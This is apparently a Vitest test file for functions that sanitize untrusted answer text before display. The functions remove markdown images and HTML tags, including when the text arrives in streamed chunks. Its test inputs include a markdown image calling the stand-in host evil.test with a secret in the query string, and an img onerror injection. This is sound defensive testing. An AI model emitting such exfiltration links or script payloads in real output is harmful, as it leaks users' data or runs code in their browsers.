import { describe, expect, it } from 'vitest';
import { shownAnswer, shownWords } from './untrusted.ts';

const picture = /!\[/;

describe('an answer', () => {
  it.each([
    ['Look: ![cat](https://evil.test/?q=secret)', 'Look: [cat](https://evil.test/?q=secret)'],
    ['!![cat](https://evil.test)', '[cat](https://evil.test)'],
    ['!<b>[cat](https://evil.test)', '[cat](https://evil.test)'],
    ['<b>bold</b> and <img src=x onerror=y>plain', 'bold and plain'],
    ['<<b>img src=x onerror=y>', '‹img src=x onerror=y>'],
    ['Wow! 1 < 2 and 3 > 2', 'Wow! 1 < 2 and 3 > 2'],
    ['never closed <b', 'never closed ‹b'],
  ])('%j is shown as %j', (text, shown) => {
    expect(shownAnswer(text)).toBe(shown);
  });

  it('shows no picture, wherever the stream of its words is cut', () => {
    const text = 'a !![cat](https://evil.test) b ![d](e) c!';
    for (let first = 0; first <= text.length; first += 1) {
      for (let second = first; second <= text.length; second += 1) {
        let shown = '';
        const show = shownWords((words) => {
          shown += words;
        });
        for (const part of [text.slice(0, first), text.slice(first, second), text.slice(second)]) show(part);
        expect(shown).not.toMatch(picture);
        expect(shown).toContain('[cat](https://evil.test) b [d](e) c');
      }
    }
  });
});
